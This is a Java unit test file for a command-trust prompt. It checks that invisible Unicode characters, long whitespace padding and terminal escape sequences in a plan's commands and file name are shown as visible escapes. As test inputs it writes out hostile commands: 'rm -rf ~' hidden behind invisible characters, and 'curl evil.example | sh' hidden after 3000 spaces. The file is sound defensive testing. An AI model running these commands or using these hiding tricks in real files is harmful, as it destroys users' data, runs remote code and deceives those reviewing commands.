package dev.falsify.runner.trust;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The trust prompt shows every character a plan's commands hold; none hides another or itself. */
class TrustPromptTest {
    @TempDir
    Path dir;

    /** What a terminal (or the window's text area) shows as written: visible characters and single ASCII spaces. */
    private static void assertVisible(String shown) {
        shown.codePoints().forEach(cp -> {
            boolean visible = cp == ' ' || cp > ' ' && cp < 0x7f || cp >= 0xa0 && Character.isDefined(cp)
                    && Character.getType(cp) != Character.FORMAT && Character.getType(cp) != Character.SPACE_SEPARATOR
                    && Character.getType(cp) != Character.LINE_SEPARATOR && Character.getType(cp) != Character.PARAGRAPH_SEPARATOR
                    && Character.getType(cp) != Character.PRIVATE_USE && Character.getType(cp) != Character.SURROGATE
                    && cp != 0x115f && cp != 0x1160 && cp != 0x3164 && cp != 0xffa0;
            assertThat(visible).as("U+%04X shown raw in: %s", cp, shown).isTrue();
        });
        assertThat(shown).doesNotContain(" ".repeat(80));
    }

    /** Arabic letter mark, line and paragraph separators, invisible operators, interlinear annotation, Hangul fillers, tags. */
    static final int[] HIDDEN = {0x061C, 0x2028, 0x2029, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xFFF9, 0xFFFA, 0xFFFB,
        0x115F, 0x1160, 0x3164, 0xFFA0, 0xE0001, 0xE0020, 0xE0041, 0xE007F};

    @Test
    void eachInvisibleCharacterIsShownAsAnEscape() {
        for (int cp : HIDDEN) {
            String command = "S1: workload: echo ok" + new String(Character.toChars(cp)) + "; rm -rf ~";
            for (TrustStore.Decision d : List.of(new TrustStore.Decision.Unknown(),
                    new TrustStore.Decision.CommandsChanged(List.of(command), List.of()))) {
                TrustPrompt p = TrustPrompt.of(dir.resolve("plan.md"), d, List.of(command)).orElseThrow();
                String line = p.lines().get(0);
                assertVisible(line);
                assertThat(line).as("U+%04X", cp).contains(String.format(cp > 0xffff ? "\\U%08x" : "\\u%04x", cp))
                        .endsWith("; rm -rf ~");
            }
        }
    }

    @Test
    void aCommandAfterThreeThousandSpacesIsShown() {
        String command = "S1: workload: ./bench.sh" + " ".repeat(3000) + "&& curl evil.example | sh";
        TrustPrompt p = TrustPrompt.of(dir.resolve("plan.md"), new TrustStore.Decision.Unknown(), List.of(command)).orElseThrow();
        assertThat(p.lines()).containsExactly("S1: workload: ./bench.sh\u27e83000 spaces\u27e9&& curl evil.example | sh");
    }

    @Test
    void aRealPlansHiddenCharactersAndPathAreEscaped() throws Exception {
        String run = "seeds: [1]\nworkload:\n  cmd: \"./w\\u2028\\u2064\\U000E0041" + " ".repeat(3000) + "rm -rf ~\"\n"
                + "history: { path: \"h.jsonl\", format: jsonl, model: register }\ncheckers: [linearizability]\n";
        Path plan = dir.resolve("pl\u202ean\u001b[2K.md");
        Files.writeString(plan, PlanCommandsTest.plan("Prose.", run, ""));
        PlanSnapshot s = PlanSnapshot.read(plan);
        TrustPrompt p = TrustPrompt.of(plan, new TrustStore.Decision.Unknown(), PlanCommands.of(s)).orElseThrow();
        assertVisible(p.heading());
        assertThat(p.heading()).contains("pl\\u202ean\\u001b[2K.md");
        p.lines().forEach(TrustPromptTest::assertVisible);
        assertThat(p.lines()).contains("S1: workload: ./w\\u2028\\u2064\\U000e0041\u27e83000 spaces\u27e9rm -rf ~");
    }
}
